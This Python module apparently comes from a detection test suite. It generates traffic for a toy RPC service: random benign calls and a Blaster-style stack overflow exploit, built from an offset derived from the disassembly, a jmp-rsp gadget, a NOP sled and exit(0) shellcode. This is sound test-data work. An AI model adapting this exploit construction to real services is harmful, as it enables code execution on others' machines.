"""Traffic for ``rpcd`` (binary RPC on TCP 135): benign calls and the Blaster-class exploit.

Wire format (see rpcd.c): an 8-byte header ``05 00 | opcode | flags | length (2, LE) |
call id (2, LE)`` and ``length`` payload bytes. Opcodes: 0x01 PING, 0x02 LOOKUP, 0x03 ACTIVATE.

The bug: ``activate`` memcpy's the payload with the header's length into ``char name[64]``.
Its disassembly (``objdump -d --no-show-raw-insn bin/rpcd``)::

    401a30 <activate>:
      push %r14; push %r13; push %r12; push %rbp; push %rbx     # 5 * 8 = 0x28
      sub    $0x50,%rsp
      lea    0x10(%rsp),%r13       # name = rsp + 0x10
      mov    %r13,%rdi
      call   401038                # iplt slot of memcpy (IRELATIVE -> glibc's memcpy ifunc)

so the saved return address (rsp + 0x50 + 0x28) is 0x78 - 0x10 = 0x68 bytes from ``name[0]``
(``NAME_TO_RET``; ``tests/sca/test_services.py`` re-derives it). The name matches no object,
so ``activate`` answers an error through a tail call to ``reply``, whose ``ret`` pops the
overwritten return address.

The exploit: an ACTIVATE whose payload is 0x68 filler bytes, the 8-byte address of
``rpc_stack_thunk`` (a ``jmp *%rsp`` trampoline in the binary, looked up in its symbol table),
then a NOP sled and the harness code. After ``ret`` the stack pointer is just past the
overwritten return address, i.e. at the sled, so the trampoline jumps into the attacker's bytes:
a code-execution alert, whose code byte is the first sled byte. The harness code is
``mov eax, 60; xor edi, edi; syscall`` = exit(0): it proves execution and does nothing else (no
self-propagating code anywhere).
"""

from __future__ import annotations

import random
import string
import struct

from sca.alert import AlertType, CodeExecution, Message
from sca.services import symbol_address
from sca.services._traffic import ExploitCase, split, stream_refs, tcp_session, word

EXPECTED_TYPE = AlertType.CODE_EXECUTION

SERVICE = "rpcd"
PORT = 135

MAGIC = b"\x05\x00"
OP_PING = 0x01
OP_LOOKUP = 0x02
OP_ACTIVATE = 0x03
FLAG_NO_REPLY = 0x01
HDR_LEN = 8
MAX_PAYLOAD = 4096

NAME_SIZE = 64  # char name[64]
NAME_TO_RET = 0x68  # 5 pushes + sub $0x50,%rsp, name at lea 0x10(%rsp): 0x28 + 0x50 - 0x10
GADGET_SYMBOL = "rpc_stack_thunk"  # jmp *%rsp
NOP = b"\x90"
CANONICAL_SLED = 16
# mov eax, 60 ; xor edi, edi ; syscall  ->  exit(0)
HARNESS_CODE = bytes.fromhex("b83c000000 31ff 0f05")

INTERFACES = ("epmapper", "spooler", "eventlog", "scheduler", "netlogon", "winreg")
OBJECTS = (
    "\\\\HERDHOST\\ScheduledTasks",
    "\\\\HERDHOST\\PrintQueue",
    "\\\\HERDHOST\\Registry",
    "\\\\HERDHOST\\EventLog",
)


def gadget_address() -> int:
    """The ``jmp *%rsp`` trampoline in the committed binary."""
    return symbol_address(SERVICE, GADGET_SYMBOL)


def request(opcode: int, payload: bytes, call_id: int, flags: int = 0) -> bytes:
    """One request: header (magic, opcode, flags, LE length, LE call id) and payload."""
    if len(payload) > MAX_PAYLOAD:
        raise ValueError("payload longer than the service accepts")
    return MAGIC + struct.pack("<BBHH", opcode, flags, len(payload), call_id) + payload


def _benign_request(rng: random.Random, call_id: int) -> bytes:
    roll = rng.random()
    if roll < 0.3:
        payload = word(rng, "abcdefghijklmnopqrstuvwxyz0123456789", 0, 32).encode()
        return request(OP_PING, payload, call_id)
    if roll < 0.6:
        iface = rng.choice((*INTERFACES, "svcctl", "lsarpc"))
        return request(OP_LOOKUP, iface.encode(), call_id)
    if rng.random() < 0.8:
        name = rng.choice(OBJECTS)
    else:
        name = "\\\\HERDHOST\\" + word(rng, string.ascii_letters, 3, 20)
    assert len(name) < NAME_SIZE, "a benign object name must never reach the bug"
    flags = FLAG_NO_REPLY if rng.random() < 0.1 else 0
    return request(OP_ACTIVATE, name.encode(), call_id, flags)


def _chunks(requests: list[bytes], rng: random.Random) -> list[bytes]:
    """How a client's sends cut its requests: one send each, header and payload apart, or
    pipelined several per send."""
    how = rng.random()
    if how < 0.5:
        return requests
    if how < 0.8:
        out: list[bytes] = []
        for r in requests:
            out += [r[:HDR_LEN], r[HDR_LEN:]] if len(r) > HDR_LEN else [r]
        return out
    return [b"".join(requests)]


def benign(rng: random.Random) -> list[Message]:
    """1 or 2 connections of 1 to 4 requests each (a PING first, so every connection gets a
    reply)."""
    connections: list[list[bytes]] = []
    for _ in range(rng.randint(1, 2)):
        call_id = rng.randint(1, 60000)
        reqs = [request(OP_PING, b"", call_id)]
        for i in range(rng.randint(0, 3)):
            reqs.append(_benign_request(rng, call_id + 1 + i))
        connections.append(_chunks(reqs, rng))
    return tcp_session(connections)


def exploit_case(rng: random.Random | None = None) -> ExploitCase:
    """The exploit and where its injected code starts. ``rng`` None: one chunk, 'A' filler, a
    16-byte sled. With an rng: random filler, sled of 1 to 48 NOPs, 0 to 200 random trailing
    bytes (the length field grows with them), random call id and chunking, maybe after benign
    requests on the same connection."""
    gadget = struct.pack("<Q", gadget_address())
    if rng is None:
        filler = b"A" * NAME_TO_RET
        sled = CANONICAL_SLED
        trailer = b""
        call_id = 1
    else:
        filler = bytes(rng.randint(0, 255) for _ in range(NAME_TO_RET))
        sled = rng.randint(1, 48)
        trailer = bytes(rng.randint(0, 255) for _ in range(rng.randint(0, 200)))
        call_id = rng.randint(1, 60000)
    payload = filler + gadget + NOP * sled + HARNESS_CODE + trailer
    attack = request(OP_ACTIVATE, payload, call_id)

    before: list[bytes] = []
    if rng is not None and rng.random() < 0.4:
        before = [_benign_request(rng, rng.randint(1, 60000)) for _ in range(rng.randint(1, 2))]
    if rng is None:
        chunks = [attack]
    else:
        chunks = _chunks([*before, attack], rng)
        if len(chunks) == 1 + len(before) and rng.random() < 0.3:
            chunks = chunks[:-1] + split(chunks[-1], rng)
    messages = tcp_session([chunks])
    code_at = sum(map(len, before)) + HDR_LEN + NAME_TO_RET + len(gadget)
    (ref,) = stream_refs(messages, 0, code_at, 1)
    return ExploitCase(tuple(messages), CodeExecution(ref))


def exploit(rng: random.Random | None = None) -> list[Message]:
    """rng None: the canonical exploit; with an rng: a random variant."""
    return list(exploit_case(rng).messages)
